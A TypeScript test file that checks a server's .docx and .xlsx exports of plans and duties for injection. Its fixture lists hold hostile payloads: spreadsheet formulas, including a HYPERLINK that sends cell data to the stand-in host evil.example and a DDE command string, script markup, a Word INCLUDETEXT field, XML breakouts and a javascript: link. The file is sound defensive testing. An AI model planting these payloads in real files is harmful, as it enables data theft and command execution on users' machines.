import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { checkZip, unpackEntry } from "../../packages/server/src/documents/check-zip.ts";
import { type Any, inputTypeOf } from "../support/api.ts";
import { openTestServer, type TestServer } from "../support/http-server.ts";

/** What a spreadsheet would reckon, a word processor fetch and a browser run, were it more than a text. */
const FORMULAS = [
  `=HYPERLINK("http://evil.example/?"&A1,"点此")`,
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "＝1+1",
  `=cmd|' /C calc'!A0`,
];
const MARKUP = [
  `<img src=x onerror=alert(1)><script>alert(1)</script>`,
  `</w:t><w:instrText>INCLUDETEXT "http://evil.example/"</w:instrText><w:t>`,
  `</t></is></c><c><f>1+1</f></c>`,
  `]]><!--&x;<![CDATA[`,
  `[链接](javascript:alert(1))`,
  `&lt;b&gt;&amp;&#x3c;`,
];
/** What turns the direction of writing is taken off on the way out; the words stay. */
const TURNED = "\u202e反写\u202c";
const TEXTS = [...FORMULAS, ...MARKUP];

let server: TestServer;
let cookie: string;
let planId: string;

beforeAll(async () => {
  server = await openTestServer({ RATE_LIMIT: "1000000" });
  cookie = await server.signIn();
  const hostile = TEXTS.join(" ").slice(0, 290);
  planId = await make("createPlan", {
    title: hostile,
    documentNumber: TEXTS[0],
    publicity: TEXTS[1],
    text: TEXTS.join("\n"),
    status: "IN_FORCE",
    issuerId: await make("createOrgUnit", { name: TEXTS[1], kind: "ORGANIZATION", code: "=1+1" }),
  });
  for (const text of [...TEXTS, TURNED]) {
    const groupId = await make("createGroup", { name: text, kind: "WORKING", planId });
    const unitId = await make("createOrgUnit", { name: `${text}科`, kind: "DEPARTMENT" });
    const personId = await make("createPerson", { name: text, aliases: [text] });
    const postId = await make("createPost", { unitId, title: text, isHead: true });
    await make("appoint", { personId, postId });
    await make("addMember", { groupId, role: "HEAD", partyId: personId });
    const dutyId = await make("createDuty", { text, number: "=1+1", title: text.slice(0, 60), groupId });
    for (const [role, partyId] of [
      ["LEAD", personId],
      ["RESPONSIBLE", unitId],
      ["SUPPORT", postId],
    ])
      await make("assign", { targetId: dutyId, role, partyId, note: text });
  }
});
afterAll(() => server.close());

async function make(mutation: string, input: object): Promise<string> {
  const query = `mutation ($input: ${inputTypeOf(mutation)}!) { it: ${mutation}(input: $input) { ... on Node { id } ... on Refusal { message } } }`;
  const { data, errors } = (await (await server.ask(query, { cookie }, { input })).json()) as Any;
  if (data?.it.id === undefined) throw new Error(`${mutation}: ${JSON.stringify(errors ?? data)}`);
  return data.it.id;
}

/** The parts of an exported file that are XML, by their names. */
async function partsOf(ending: string): Promise<Record<string, string>> {
  const answer = await fetch(`${server.url}/api/plans/${planId}.${ending}`, { headers: { cookie } });
  expect(answer.status).toBe(200);
  const bytes = Buffer.from(await answer.arrayBuffer());
  const entries = checkZip(bytes).filter(({ name }) => /\.(xml|rels)$/.test(name));
  return Object.fromEntries(entries.map((entry) => [entry.name, unpackEntry(bytes, entry).toString("utf8")]));
}

/** What a reader sees of a part: its text, with nothing of its marks. */
function textOf(xml: string): string {
  return xml
    .replaceAll(/<[^>]+>/g, "")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&apos;", "'")
    .replaceAll("&amp;", "&");
}

describe("the table of duties", () => {
  test("holds texts and numbers, and no formula, link or part from outside", async () => {
    const parts = await partsOf("duties.xlsx");
    const [, sheet = ""] = Object.entries(parts).find(([name]) => name.includes("sheet1.xml")) ?? [];
    expect(sheet).toMatch(/<c /);
    expect(sheet).not.toMatch(/<f[ >]|<hyperlink|t="str"/);
    expect(Object.keys(parts).filter((name) => /externalLink|vba|connections|hyperlink/i.test(name))).toEqual(
      [],
    );
    expect(Object.values(parts).join("")).not.toMatch(/TargetMode="External"/);
  });

  test("shows each text as it was written", async () => {
    const all = textOf(Object.values(await partsOf("duties.xlsx")).join(""));
    for (const text of TEXTS) expect(all).toContain(text.trim());
    expect(all).toContain("反写");
    expect(all).not.toMatch(/[\u202a-\u202e]/);
  });
});

describe("the plan as a document", () => {
  test("holds texts, and no field, link, picture or part from outside", async () => {
    const parts = await partsOf("docx");
    const body = parts["word/document.xml"] ?? "";
    expect(body).toContain("<w:t");
    expect(body).not.toMatch(
      /<w:instrText|<w:hyperlink|<w:object|<w:altChunk|<script|<img|INCLUDETEXT "http:\/\/evil\.example\/"<\/w:instr/,
    );
    expect(Object.keys(parts).filter((name) => /altChunk|vba|afchunk|embeddings/i.test(name))).toEqual([]);
    expect(Object.values(parts).join("")).not.toMatch(/TargetMode="External"/);
  });

  test("shows each text as it was written", async () => {
    const all = textOf((await partsOf("docx"))["word/document.xml"] ?? "").replaceAll(/\s/g, "");
    for (const text of TEXTS) expect(all).toContain(text.replaceAll(/\s/g, ""));
    expect(all).toContain("反写");
    expect(all).not.toMatch(/[\u202a-\u202e]/);
  });
});

test("the name of either file is only a name", async () => {
  for (const ending of ["docx", "duties.xlsx"]) {
    const { headers } = await fetch(`${server.url}/api/plans/${planId}.${ending}`, { headers: { cookie } });
    const disposition = headers.get("content-disposition") ?? "";
    expect(disposition).toMatch(/^attachment; filename="[^"\\/]*"; filename\*=UTF-8''[^;"]*$/);
    expect(decodeURIComponent(disposition.split("''")[1] ?? "")).not.toMatch(/[/\\\u202a-\u202e\r\n]/);
    expect(headers.get("x-content-type-options")).toBe("nosniff");
  }
});
